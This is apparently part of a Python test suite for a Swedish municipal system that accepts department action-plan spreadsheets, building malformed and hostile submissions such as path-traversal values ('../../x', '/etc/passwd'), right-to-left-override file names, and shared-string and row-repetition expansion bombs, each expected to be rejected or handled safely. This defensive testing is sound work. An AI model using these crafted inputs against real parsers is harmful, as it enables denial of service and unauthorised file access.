    """UTB's template dropped under a SOC-looking name: accepted, for UTB."""
    kit.filled("SOC handlingsplan 2027.xlsx", code="UTB")
    return "SOC handlingsplan 2027.xlsx"


def old_template_version(kit: Kit) -> str:
    """A template of layout version 0, which this system cannot read."""
    _identification_changed(kit, "gammal_mall.xlsx", c.ID_TEMPLATE_VERSION, "0")
    return "gammal_mall.xlsx"


def unknown_plan_version(kit: Kit) -> str:
    """A template made from a plan version (well-formed) that was never saved: rejected."""
    _identification_changed(kit, "gammal_plan.xlsx", c.ID_PLAN_VERSION, "000000000000")
    return "gammal_plan.xlsx"


def last_years_template(kit: Kit) -> str:
    """Last year's template, never handed in before, dropped this year: accepted for its own year."""
    kit.filled("forra_aret.xlsx", year=YEAR - 1)
    return "forra_aret.xlsx"


def _own_workbook(path: Path) -> Path:
    wb = openpyxl.Workbook()
    wb.active.title = c.SHEET_ACTIONS
    wb.active.append(list(c.ACTION_COLUMNS))
    wb.active.append([GOOD.get(n) for n in c.ACTION_COLUMNS])
    path.parent.mkdir(parents=True, exist_ok=True)
    wb.save(path)
    return path


def own_workbook(kit: Kit) -> str:
    """A workbook of the förvaltning's own making, not from the template."""
    _own_workbook(kit.inbox / "egen.xlsx")
    return "egen.xlsx"


def same_file_twice(kit: Kit) -> str:
    """The same submission twice under two names: the second is a duplicate."""
    first = kit.filled("a_plan.xlsx")
    kit.write("b_kopia.xlsx", first.read_bytes())
    return "b_kopia.xlsx"


def two_files_one_department(kit: Kit) -> str:
    """Two different submissions from SOC: the later saved (mtime) is in force, whatever its name."""
    later = kit.filled("a_andra.xlsx", [GOOD, GOOD])
    earlier = kit.filled("b_forsta.xlsx")
    kit.touch(later, OLD + 60)
    kit.touch(earlier, OLD)
    kit.in_force["SOC"] = "a_andra.xlsx"
    return "a_andra.xlsx"


def excel_lock_file(kit: Kit) -> str:
    """Excel's owner file ~$plan.xlsx, present while the workbook is open."""
    kit.write("~$plan.xlsx", b"\x0bAnna       ")
    return "~$plan.xlsx"


def libreoffice_lock_file(kit: Kit) -> str:
    """LibreOffice's lock file .~lock.plan.xlsx#."""
    kit.write(".~lock.plan.xlsx#", "Anna,ANNA-PC,anna,01.03.2027 09:00,file:///C:/x;")
    return ".~lock.plan.xlsx#"


def hidden_file(kit: Kit) -> str:
    """A hidden (dot) file, e.g. from macOS: ._plan.xlsx."""
    kit.write("._plan.xlsx", b"\x00\x05\x16\x07" + bytes(60))
    return "._plan.xlsx"


def still_being_written(kit: Kit) -> str:
    """A valid submission modified seconds before the run (may still be saving): waits."""
    kit.touch(kit.filled("ny.xlsx"), time.time() - 5)
    return "ny.xlsx"


def half_copied(kit: Kit) -> str:
    """Half a workbook modified 5 minutes ago (still within the copy grace): waits, not rejected."""
    data = kit.filled("_källa.xlsx", scratch=True).read_bytes()
    kit.touch(kit.write("kopieras.xlsx", data[: len(data) // 2]), time.time() - 300)
    return "kopieras.xlsx"


def empty_template(kit: Kit) -> str:
    """The template returned without any action (nothing filled in)."""
    kit.filled("tom_mall.xlsx", (), concerns={})
    return "tom_mall.xlsx"


# --- round 2: identity taken on the file's word ----------------------------------------------


def identity_conflict_department(kit: Kit) -> str:
    """Document properties say SOC, the hidden Identifiering sheet says UTB: they must agree."""
    source = kit.filled("_källa.xlsx", scratch=True)
    wb = openpyxl.load_workbook(source)
    for row in wb[c.SHEET_IDENTIFICATION].iter_rows():
        if row[0].value == c.ID_DEPARTMENT:
            row[1].value = "UTB"
    wb.save(kit.inbox / "identitet.xlsx")
    return "identitet.xlsx"


def plan_version_path_like(kit: Kit) -> str:
    """The plan version (property and sheet) is "../../x": never part of a path."""
    _identification_changed(kit, "sokvag.xlsx", c.ID_PLAN_VERSION, "../../x")
    return "sokvag.xlsx"


def plan_version_absolute_path(kit: Kit) -> str:
    """The plan version (property and sheet) is an absolute path, /etc/passwd."""
    _identification_changed(kit, "absolut.xlsx", c.ID_PLAN_VERSION, "/etc/passwd")
    return "absolut.xlsx"


# --- round 2: the clock taken on the file's word ------------------------------------------------


def future_mtime(kit: Kit) -> str:
    """A valid submission whose modification time is a year ahead: waits once, then is handled."""
    kit.touch(kit.filled("framtid.xlsx"), time.time() + 365 * 24 * 3600)
    kit.options["quiet_seconds"] = QUIET
    kit.between.append(lambda _: time.sleep(QUIET + 0.5))
    return "framtid.xlsx"


def older_mtime_handed_in_later(kit: Kit) -> str:
    """A re-submission handed in a run later with an older modification time: it is in force."""
    kit.touch(kit.filled("a_forsta.xlsx"), OLD + 3600)

    def hand_in_again(kit: Kit) -> None:
        kit.touch(kit.filled("b_andra.xlsx", [GOOD, GOOD]), OLD)
        kit.settle()

    kit.between.append(hand_in_again)
    kit.in_force["SOC"] = "b_andra.xlsx"
    return "b_andra.xlsx"


# --- round 2: file and folder names ---------------------------------------------------------------


def name_with_closing_markup(kit: Kit) -> str:
    """A valid submission named "[/x].xlsx" (Rich markup that closes nothing): plain text."""
    kit.filled("[/x].xlsx")
    return "[/x].xlsx"


def name_with_bold_markup(kit: Kit) -> str:
    """A valid submission named "[bold]x.xlsx": printed as it is, never as bold."""
    kit.filled("[bold]x.xlsx")
    return "[bold]x.xlsx"


NOT_UTF8_NAME = b"\xff\xfe.xlsx"


def name_not_utf8(kit: Kit) -> str:
    """A valid submission whose name is the bytes ff fe ".xlsx" (not valid UTF-8)."""
    source = kit.filled("_källa.xlsx", scratch=True)
    with open(os.path.join(os.fsencode(kit.inbox), NOT_UTF8_NAME), "wb") as target:
        target.write(source.read_bytes())
    return os.fsdecode(NOT_UTF8_NAME)


def name_with_rtl_override(kit: Kit) -> str:
    """A valid submission named "SOC\\u202eslx.xlsx" (a right-to-left override forging the name)."""
    kit.filled("SOC\u202eslx.xlsx")
    return "SOC\u202eslx.xlsx"


DEEP_LEVELS = 200


def deeply_nested_folders(kit: Kit) -> str:
    """A valid submission 200 folders down: the walk is bounded and never runs out of stack."""
    folder = kit.inbox.joinpath(*["d"] * DEEP_LEVELS)
    folder.mkdir(parents=True)
    shutil.copyfile(kit.filled("_källa.xlsx", scratch=True), folder / "djup.xlsx")
    return "/".join(["d"] * DEEP_LEVELS + ["djup.xlsx"])


# --- round 2: small files that expand ------------------------------------------------------------


def _sheet_xml_changed(kit: Kit, name: str, change: Callable[[bytes], bytes]) -> str:
    """Writes a valid submission whose Åtgärder sheet XML is changed by `change`."""
    source = kit.filled("_källa.xlsx", scratch=True)
    part = sheet_part(source, c.SHEET_ACTIONS)
    kit.repacked(name, {part: change(members_of(source)[part])}, source)
    return name


def cell_far_away(kit: Kit) -> str:
    """One cell at XFD1048576, the last cell a sheet can have, in an otherwise valid workbook."""
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    return _sheet_xml_changed(kit, "fjarran.xlsx", lambda xml: xml.replace(b"</sheetData>", far, 1))


def dimension_far_away(kit: Kit) -> str:
    """Åtgärder declares its dimension as A1:XFD1048576 (17 billion cells) in a tiny file."""

    def change(xml: bytes) -> bytes:
        changed, found = re.subn(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', xml)
        if not found:
            changed = xml.replace(b"<sheetData", b'<dimension ref="A1:XFD1048576"/><sheetData', 1)
        return changed

    return _sheet_xml_changed(kit, "dimension.xlsx", change)


SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
SST_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def _declare_shared_strings(members: dict[str, bytes]) -> dict[str, bytes]:
    """Returns the members with xl/sharedStrings.xml declared in [Content_Types].xml and the
    workbook's relationships, as Excel declares it (the filled templates use inline text)."""
    types = members["[Content_Types].xml"]
    if b"/xl/sharedStrings.xml" not in types:
        override = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SST_TYPE}"/>'.encode()
        types = types.replace(b"</Types>", override + b"</Types>")
    rels = members["xl/_rels/workbook.xml.rels"]
    if b"sharedStrings.xml" not in rels:
        relation = f'<Relationship Type="{SST_RELATION}" Target="sharedStrings.xml" Id="rIdSst"/>'.encode()
        rels = rels.replace(b"</Relationships>", relation + b"</Relationships>")
    return {**members, "[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels}


def _with_shared_strings(
    kit: Kit, name: str, strings: Callable[[], Any], rows: Callable[[], Any] | None = None
) -> Path:
    """Writes a valid submission with a shared-string table streamed from `strings()` (the <si>
    elements) and, when given, extra <row> XML from `rows()` at the end of Åtgärder."""
    source = kit.filled("_källa.xlsx", scratch=True)
    members = _declare_shared_strings(members_of(source))
    part = sheet_part(source, c.SHEET_ACTIONS)
    head, tail = members[part].split(b"</sheetData>")
    target = kit.inbox / name
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for member, data in members.items():
            if member not in (part, "xl/sharedStrings.xml"):
                archive.writestr(member, data)
        with archive.open(part, "w", force_zip64=True) as stream:
            stream.write(head)
            for chunk in rows() if rows is not None else ():
                stream.write(chunk)
            stream.write(b"</sheetData>" + tail)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as stream:
            for chunk in strings():
                stream.write(chunk)
    return target


def shared_string_used_million_times(kit: Kit) -> str:
    """One 1 000-character shared text used by 20 000 cells (20 million characters once read)."""

    def strings() -> Any:
        yield f'<sst xmlns="{_NS["main"]}" count="20000" uniqueCount="1"><si><t>'.encode()
        yield b"x" * 1000 + b"</t></si></sst>"

    def rows() -> Any:
        for start in range(302, 20_302, 1000):
            yield "".join(
                f'<row r="{r}"><c r="K{r}" t="s"><v>0</v></c></row>' for r in range(start, start + 1000)
            ).encode()

    return _with_shared_strings(kit, "delade.xlsx", strings, rows).name


def shared_strings_table_huge(kit: Kit) -> str:
    """A shared-string table declaring 50 million texts and holding 1 100 000 distinct ones."""

    def strings() -> Any:
        yield f'<sst xmlns="{_NS["main"]}" count="50000000" uniqueCount="50000000">'.encode()
        for start in range(0, 1_100_000, 10_000):
            yield "".join(f"<si><t>{n:x}</t></si>" for n in range(start, start + 10_000)).encode()
        yield b"</sst>"

    return _with_shared_strings(kit, "texter.xlsx", strings).name


def ods_rows_repeated(kit: Kit) -> str:
    """An .ods of the filled template with one filled row repeated 1 000 000 times (a few bytes)."""
    name = _saved_by_libreoffice(kit, "upprepad.ods", "ods", kit.filled("_källa.xlsx", scratch=True))
    path = kit.inbox / name
    members = members_of(path)
    content = members["content.xml"].decode("utf-8")
    table = content.index('table:name="Åtgärder"')
    end = content.index("</table:table>", table)
    row = (
        '<table:table-row table:number-rows-repeated="1000000">'
        '<table:table-cell table:number-columns-repeated="2"/>'
        '<table:table-cell office:value-type="string"><text:p>Upprepad</text:p></table:table-cell>'
        "</table:table-row>"
    )
    content = content[:end] + row + content[end:]
    data = {**members, "content.xml": content.encode("utf-8")}
    path.unlink()
    with zipfile.ZipFile(path, "w") as archive:
        for member, value in data.items():
            # An .ods keeps its mimetype first and stored, as LibreOffice writes it.
            kind = zipfile.ZIP_STORED if member == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(member, value, compress_type=kind)
    return name


# --- round 2: numbers and text at the edges ----------------------------------------------------


def _nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


def nfd_status_and_headers(kit: Kit) -> str:
    """Status "Pågår" and the headers Åtgärd and Åtgärds-ID in NFD (decomposed, as macOS writes)."""

    def edit(wb: Workbook) -> None:
        ws = wb[c.SHEET_ACTIONS]
        cols = _columns(ws)
        for header in (c.ACTION, c.ACTION_ID):
            ws.cell(1, cols[header]).value = _nfd(header)
        ws.cell(2, cols[c.STATUS]).value = _nfd(c.IN_PROGRESS)
        ws.cell(2, cols[c.OWNER]).value = _nfd("Enhetschef för språk")

    kit.filled("nfd.xlsx", edit=edit)
    kit.kept[(c.STATUS, 2)] = c.IN_PROGRESS
    kit.kept[(c.ACTION, 2)] = GOOD[c.ACTION]
    kit.kept[(c.OWNER, 2)] = "Enhetschef för språk"
    return "nfd.xlsx"


def invisible_in_status_and_id(kit: Kit) -> str:
    """A zero-width space in Status and a right-to-left mark in an Åtgärds-ID: stripped, accepted."""
    action = {**GOOD, c.STATUS: "Pågår\u200b", c.ACTION_ID: "SOC-\u200f2027-001"}
    kit.filled("osynligt.xlsx", [action])
    kit.kept[(c.STATUS, 2)] = c.IN_PROGRESS
    kit.kept[(c.ACTION_ID, 2)] = "SOC-2027-001"
    return "osynligt.xlsx"


BIDI_CONTROLS = (
    "\u200b\u200c\u200d\u2060\ufeff\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)
"""Bidi controls, marks and zero-width characters: they change how text reads without showing."""

BIDI_TEXT = "Betala till konto \u202e0987654321\u202c och \u2066isolerat\u2069 \u200bslut"


def bidi_in_free_text(kit: Kit) -> str:
    """Kommentar with a right-to-left override, an isolate and a zero-width space: kept, shown escaped."""
    return _text_case(kit, "bidi.xlsx", {"bidi": BIDI_TEXT})


def _numeric_costs(kit: Kit, name: str, values: Sequence[bytes]) -> str:
    """One GOOD action per value, its Kostnad cell holding `values[i]` as a raw XML number."""
    source = kit.filled("_källa.xlsx", [GOOD for _ in values], scratch=True)
    part = sheet_part(source, c.SHEET_ACTIONS)
    xml = members_of(source)[part]
    letter = openpyxl.utils.get_column_letter(
        _columns(openpyxl.load_workbook(source)[c.SHEET_ACTIONS])[c.COST]
    )
    for row, value in enumerate(values, start=2):
        xml, found = re.subn(
            rf'(<c r="{letter}{row}"[^>]*>)<v>[^<]*</v>'.encode(),
            lambda m, v=value: m.group(1) + b"<v>" + v + b"</v>",
            xml,
        )
        assert found == 1, (letter, row)
    kit.repacked(name, {part: xml}, source)
    return name


def cost_infinite(kit: Kit) -> str:
    """Kostnad saved as the numbers 1e309 (infinity once read) and INF."""
    name = _numeric_costs(kit, "oandlig.xlsx", [b"1e309", b"INF"])
    return name


def cost_text_infinity(kit: Kit) -> str:
    """Kostnad typed as the texts "inf", "Infinity", "NaN" and "1e309"."""
    kit.filled("oandlig_text.xlsx", [{**GOOD, c.COST: t} for t in ("inf", "Infinity", "NaN", "1e309")])
    return "oandlig_text.xlsx"


def costs_whose_sum_overflows(kit: Kit) -> str:
    """Two costs of 1e308 kr each (finite, but their sum is infinity): each one refused."""
    return _numeric_costs(kit, "summa.xlsx", [b"1e308", b"1e308"])


def cost_above_ceiling(kit: Kit) -> str:
    """A cost of 10 000 000 001 kr, one krona above the ceiling, next to one exactly at it."""
    kit.filled("tak.xlsx", [{**GOOD, c.COST: 10_000_000_001}, {**GOOD, c.COST: 10_000_000_000}])
    kit.checks.append(lambda report: _assert_errors(report, 1))
    return "tak.xlsx"


def cost_empty_next_to_a_cost(kit: Kit) -> str:
    """Two actions, the first without a cost and the second with 5000 kr: an empty cell is no cost."""
    kit.filled("tom_kostnad.xlsx", [{**GOOD, c.COST: None}, GOOD])
    kit.kept[(c.COST, 3)] = 5000.0
    return "tom_kostnad.xlsx"


def text_of_32768_characters(kit: Kit) -> str:
    """Kommentar of 32 768 characters, one more than an Excel cell holds."""
    # Written into the sheet XML: openpyxl (like Excel) cuts a longer text at the limit. An ASCII
    # placeholder: with lxml, openpyxl may write å as a character reference.
    source = kit.filled("_källa.xlsx", [{**GOOD, c.COMMENT: "PLATSHALLARE"}], scratch=True)
    part = sheet_part(source, c.SHEET_ACTIONS)
    xml = members_of(source)[part]
    assert xml.count(b"PLATSHALLARE") == 1
    kit.repacked("lang.xlsx", {part: xml.replace(b"PLATSHALLARE", ("å" * 32_768).encode())}, source)
    return "lang.xlsx"


def text_of_32767_characters(kit: Kit) -> str:
    """Kommentar of exactly 32 767 characters, the most an Excel cell holds: kept whole."""
    kit.filled("lagom_lang.xlsx", [{**GOOD, c.COMMENT: "å" * 32_767}])
    kit.kept[(c.COMMENT, 2)] = "å" * 32_767
    return "lagom_lang.xlsx"


def dates_outside_window(kit: Kit) -> str:
    """Start typed as 1899-12-31 and Klart as the date 2201-01-01, outside the years 1900–2200."""
    kit.filled("fel_ar.xlsx", [{**GOOD, c.START: "1899-12-31", c.DONE: dt.datetime(2201, 1, 1)}])
    kit.checks.append(lambda report: _assert_errors(report, 2))
    return "fel_ar.xlsx"


def dates_at_window_edges(kit: Kit) -> str:
    """Start 1900-01-01 and Klart 2200-12-31, the window's edges: accepted with warnings, kept exactly."""
    kit.filled(
        "kant_ar.xlsx", [{**GOOD, c.START: dt.datetime(1900, 1, 1), c.DONE: dt.datetime(2200, 12, 31)}]
    )
    kit.kept[(c.START, 2)] = dt.date(1900, 1, 1)
    kit.kept[(c.DONE, 2)] = dt.date(2200, 12, 31)
    return "kant_ar.xlsx"


def action_number_1000(kit: Kit) -> str:
    """An Åtgärds-ID with a four-digit number, SOC-2027-1000: there is no three-digit ceiling."""
    kit.filled("nr1000.xlsx", [{**GOOD, c.ACTION_ID: "SOC-2027-1000"}])
    kit.kept[(c.ACTION_ID, 2)] = "SOC-2027-1000"
    return "nr1000.xlsx"


MANY_ERRORS = 19_000


def twenty_thousand_errors(kit: Kit) -> str:
    """19 000 actions, each with the Status "Klar" (not in the list): feedback stays small and counts the rest."""
    # Row 2 is the GOOD action with Status "Klar"; rows 3.. are written straight into the sheet XML.
    source = kit.filled("_källa.xlsx", [{**GOOD, c.STATUS: "Klar"}], scratch=True)
    header = _columns(openpyxl.load_workbook(source)[c.SHEET_ACTIONS])
    letter = {name: openpyxl.utils.get_column_letter(col) for name, col in header.items()}
    texts = {c.GOAL: "1.3", c.ACTION: "Språkcafé", c.OWNER: "Enhetschef", c.STATUS: "Klar"}
    texts |= {c.INDICATOR: "Antal deltagare", c.FUNDING: "Statlig ersättning"}

    def rows() -> Any:
        for start in range(3, 3 + MANY_ERRORS - 1, 1000):
            chunk = []
            for r in range(start, min(start + 1000, 2 + MANY_ERRORS)):
                cells = "".join(
                    f'<c r="{letter[n]}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for n, v in texts.items()
                )
                chunk.append(f'<row r="{r}">{cells}</row>')
            yield "".join(chunk).encode()

    _with_rows_from(kit, source, "tjugotusen.xlsx", rows)
    kit.checks.append(_feedback_small_and_counted)
    return "tjugotusen.xlsx"


def feedback_named_by_full_hash(kit: Kit) -> str:
    """A valid submission: its feedback files carry the whole 64-character SHA-256, never a prefix."""
    kit.filled("hash.xlsx")
    kit.checks.append(_feedback_named_by_digest)
    return "hash.xlsx"


def _with_rows_from(kit: Kit, source: Path, name: str, rows: Callable[[], Any]) -> Path:
    """As `_with_rows`, from a given source workbook."""
    part = sheet_part(source, c.SHEET_ACTIONS)
    members = members_of(source)
    head, tail = members[part].split(b"</sheetData>")
    target = kit.inbox / name
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for member, data in members.items():
            if member != part:
                archive.writestr(member, data)
        with archive.open(part, "w", force_zip64=True) as stream:
            stream.write(head)
            for chunk in rows():
                stream.write(chunk)
            stream.write(b"</sheetData>" + tail)
    return target


def _assert_errors(report: Any, errors: int) -> None:
    assert report.errors == errors, (report.errors, report.message)


FEEDBACK_CEILING = 500 * 1024


def _feedback_small_and_counted(report: Any) -> None:
    """The feedback page stays under 500 KB and says how many more problems there are."""
    html = report.feedback.read_text(encoding="utf-8")
    assert len(html.encode("utf-8")) < FEEDBACK_CEILING, len(html)
    more = MANY_ERRORS - MAX_PROBLEMS_PER_CODE
    spelled = {str(more), f"{more:,}".replace(",", " "), f"{more:,}".replace(",", "\u00a0")}
    spelled |= {f"{more:,}".replace(",", "\u202f"), f"{more:,}".replace(",", "&nbsp;")}
    assert any(s in html for s in spelled), f"the page does not say {more} more"


def _feedback_named_by_digest(report: Any) -> None:
    assert report.digest is not None and len(report.digest) == 64
    assert report.digest in report.feedback.name, report.feedback.name
    for sibling in report.feedback.parent.iterdir():
        assert report.digest in sibling.name, sibling.name


# --- the table -----------------------------------------------------------------------------------


def _codes(*codes: str) -> frozenset[str]:
    return frozenset(codes)


CASES: tuple[Case, ...] = (
    # hostile
    Case("entity_bomb_in_shared_strings", entity_bomb_in_shared_strings, "rejected", _codes("dtd")),
    Case("xxe_in_custom_properties", xxe_in_custom_properties, "rejected", _codes("dtd")),
    Case("zip_bomb_lying_header", zip_bomb_lying_header, "rejected", _codes("corrupt_member")),
    Case("zip_bomb_300_mib", zip_bomb_300_mib, "rejected", _codes("zip_bomb"), slow=True),
    Case("zip_bomb_in_worksheet", zip_bomb_in_worksheet, "rejected", _codes("zip_bomb"), slow=True),
    Case("too_many_members", too_many_members, "rejected", _codes("too_many_members")),
    Case("not_a_zip", not_a_zip, "rejected", _codes("not_zip")),
    Case("zero_bytes", zero_bytes, "rejected", _codes("empty")),
    Case("truncated", truncated, "rejected", _codes("truncated")),
    Case("corrupt_member", corrupt_member, "rejected", _codes("corrupt_member")),
    Case("password_protected", password_protected, "rejected", _codes("encrypted")),
    Case("password_protected_xls", password_protected_xls, "rejected", _codes("encrypted")),
    Case("csv_renamed", csv_renamed, "rejected", _codes("csv")),
    Case("html_renamed", html_renamed, "rejected", _codes("html")),
    Case("xlsm_with_macros", xlsm_with_macros, "rejected", _codes("macros")),
    Case("external_links", external_links, "accepted", _codes("external_links"), department="SOC"),
    Case("hyperlink_to_local_file", hyperlink_to_local_file, "accepted", _codes(), department="SOC"),
    Case(
        "million_rows",
        million_rows,
        "rejected",
        _codes("sheet_rows_beyond_limit"),
        slow=True,
    ),
    Case("styled_empty_rows_to_100000", styled_empty_rows_to_100000, "accepted", _codes(), department="SOC"),
    # injection
    Case("injection_formula_prefixes", injection_formula_prefixes, "accepted", _codes(), department="SOC"),
    Case("injection_tab_and_cr", injection_tab_and_cr, "accepted", _codes(), department="SOC"),
    Case("injection_urls", injection_urls, "accepted", _codes(), department="SOC"),
    Case("injection_script_tag", injection_script_tag, "accepted", _codes(), department="SOC"),
    Case("injection_markdown", injection_markdown, "accepted", _codes(), department="SOC"),
    # careless
    Case("renamed_file", renamed_file, "accepted", _codes(), department="SOC"),
    Case("moved_columns", moved_columns, "accepted", _codes(), department="SOC"),
    Case(
        "deleted_optional_column",
        deleted_optional_column,
        "accepted",
        _codes("missing_optional_column"),
        department="SOC",
    ),
    Case(
        "deleted_required_column",
        deleted_required_column,
        "rejected",
        _codes("missing_column"),
        department="SOC",
    ),
    Case("duplicated_column", duplicated_column, "accepted", _codes("duplicate_column"), department="SOC"),
    Case("extra_column", extra_column, "accepted", _codes("extra_column"), department="SOC"),
    Case(
        "renamed_sheet_atgarder",
        renamed_sheet_atgarder,
        "rejected",
        _codes("missing_sheet", "marked_goal_without_action"),
        department="SOC",
    ),
    Case("deleted_sheet_delmal", deleted_sheet_delmal, "rejected", _codes("missing_sheet"), department="SOC"),
    Case("title_row_above_header", title_row_above_header, "accepted", _codes(), department="SOC"),
    Case("merged_cells_in_table", merged_cells_in_table, "accepted", _codes(), department="SOC"),
    Case("dates_as_iso_text", dates_as_iso_text, "accepted", _codes(), department="SOC"),
    Case(
        "dates_as_text_other_formats",
        dates_as_text_other_formats,
        "rejected",
        _codes("date_invalid"),
        department="SOC",
    ),
    Case("dates_as_serial_1900", dates_as_serial_1900, "accepted", _codes(), department="SOC"),
    Case("dates_as_serial_1904", dates_as_serial_1904, "accepted", _codes(), department="SOC"),
    Case(
        "costs_with_separators_and_units",
        costs_with_separators_and_units,
        "accepted",
        _codes(),
        department="SOC",
    ),
    Case("costs_with_words", costs_with_words, "rejected", _codes("cost_not_number"), department="SOC"),
    Case("hidden_or_filtered_rows", hidden_or_filtered_rows, "accepted", _codes(), department="SOC"),
    Case("formula_with_saved_value", formula_with_saved_value, "accepted", _codes(), department="SOC"),
    Case(
        "formula_without_saved_value",
        formula_without_saved_value,
        "rejected",
        _codes("formula_without_value"),
        department="SOC",
    ),
    Case(
        "another_departments_template", another_departments_template, "accepted", _codes(), department="UTB"
    ),
    Case("old_template_version", old_template_version, "rejected", _codes("template_version")),
    Case("unknown_plan_version", unknown_plan_version, "rejected", _codes("plan_version_unknown")),
    Case("last_years_template", last_years_template, "accepted", _codes(), department="SOC"),
    Case("own_workbook", own_workbook, "rejected", _codes("not_a_template")),
    # LibreOffice's own format and the old Excel one: accepted when they carry the template's identity
    Case("ods_from_template", ods_from_template, "accepted", _codes(), department="SOC", libreoffice=True),
    Case(
        "ods_renamed_to_xlsx", ods_renamed_to_xlsx, "accepted", _codes(), department="SOC", libreoffice=True
    ),
    Case(
        "ods_without_identity", ods_without_identity, "rejected", _codes("not_a_template"), libreoffice=True
    ),
    Case("xls_from_template", xls_from_template, "accepted", _codes(), department="SOC", libreoffice=True),
    Case(
        "xls_without_identity", xls_without_identity, "rejected", _codes("not_a_template"), libreoffice=True
    ),
    Case("empty_template", empty_template, "accepted", _codes(), department="SOC"),
    Case("same_file_twice", same_file_twice, "duplicate"),
    Case("two_files_one_department", two_files_one_department, "accepted", _codes(), department="SOC"),
    Case("excel_lock_file", excel_lock_file, "ignored"),
    Case("libreoffice_lock_file", libreoffice_lock_file, "ignored"),
    Case("hidden_file", hidden_file, "ignored"),
    Case("still_being_written", still_being_written, "waiting"),
    Case("half_copied", half_copied, "waiting"),
    # round 2 (issue 18): identity, clock, names, expansion, edges, collisions
    Case(
        "identity_conflict_department", identity_conflict_department, "rejected", _codes("identity_conflict")
    ),
    Case("plan_version_path_like", plan_version_path_like, "rejected", _codes("plan_version_invalid")),
    Case(
        "plan_version_absolute_path", plan_version_absolute_path, "rejected", _codes("plan_version_invalid")
    ),
    Case("future_mtime", future_mtime, "accepted", _codes(), department="SOC"),
    Case("older_mtime_handed_in_later", older_mtime_handed_in_later, "accepted", _codes(), department="SOC"),
    Case("name_with_closing_markup", name_with_closing_markup, "accepted", _codes(), department="SOC"),
    Case("name_with_bold_markup", name_with_bold_markup, "accepted", _codes(), department="SOC"),
    Case("name_not_utf8", name_not_utf8, "accepted", _codes(), department="SOC"),
    Case("name_with_rtl_override", name_with_rtl_override, "accepted", _codes(), department="SOC"),
    Case("deeply_nested_folders", deeply_nested_folders, "ignored"),
    Case(
        "cell_far_away",
        cell_far_away,
        "rejected",
        _codes("sheet_rows_beyond_limit"),
        department="SOC",
    ),
    Case(
        "dimension_far_away",
        dimension_far_away,
        "rejected",
        _codes("sheet_rows_beyond_limit"),
        department="SOC",
    ),
    Case(
        "shared_string_used_million_times",
        shared_string_used_million_times,
        "rejected",
        _codes("text_beyond_limit"),
        department="SOC",
    ),
    Case(
        "shared_strings_table_huge",
        shared_strings_table_huge,
        "rejected",
        _codes("shared_strings_beyond_limit"),
        department="SOC",
    ),
    Case(
        "ods_rows_repeated",
        ods_rows_repeated,
        "rejected",
        _codes("sheet_rows_beyond_limit"),
        department="SOC",
        libreoffice=True,
    ),
    Case("nfd_status_and_headers", nfd_status_and_headers, "accepted", _codes(), department="SOC"),
    Case("invisible_in_status_and_id", invisible_in_status_and_id, "accepted", _codes(), department="SOC"),
    Case("bidi_in_free_text", bidi_in_free_text, "accepted", _codes(), department="SOC"),
    Case("cost_infinite", cost_infinite, "rejected", _codes("cost_not_number"), department="SOC"),
    Case("cost_text_infinity", cost_text_infinity, "rejected", _codes("cost_not_number"), department="SOC"),
    Case(
        "costs_whose_sum_overflows",
        costs_whose_sum_overflows,
        "rejected",
        _codes("cost_too_large"),
        department="SOC",
    ),
    Case("cost_empty_next_to_a_cost", cost_empty_next_to_a_cost, "accepted", _codes(), department="SOC"),
    Case("cost_above_ceiling", cost_above_ceiling, "rejected", _codes("cost_too_large"), department="SOC"),
    Case(
        "text_of_32768_characters",
        text_of_32768_characters,
        "rejected",
        _codes("text_too_long"),
        department="SOC",
    ),
    Case("text_of_32767_characters", text_of_32767_characters, "accepted", _codes(), department="SOC"),
    Case(
        "dates_outside_window",
        dates_outside_window,
        "rejected",
        _codes("date_out_of_range"),
        department="SOC",
    ),
    Case(
        "dates_at_window_edges",
        dates_at_window_edges,
        "accepted",
        _codes("date_before_plan_year", "date_long_after_plan_year"),
        department="SOC",
    ),
    Case("action_number_1000", action_number_1000, "accepted", _codes(), department="SOC"),
    Case(
        "twenty_thousand_errors",
        twenty_thousand_errors,
        "rejected",
        _codes("status_invalid"),
        slow=True,
        department="SOC",
    ),
    Case("feedback_named_by_full_hash", feedback_named_by_full_hash, "accepted", _codes(), department="SOC"),
)
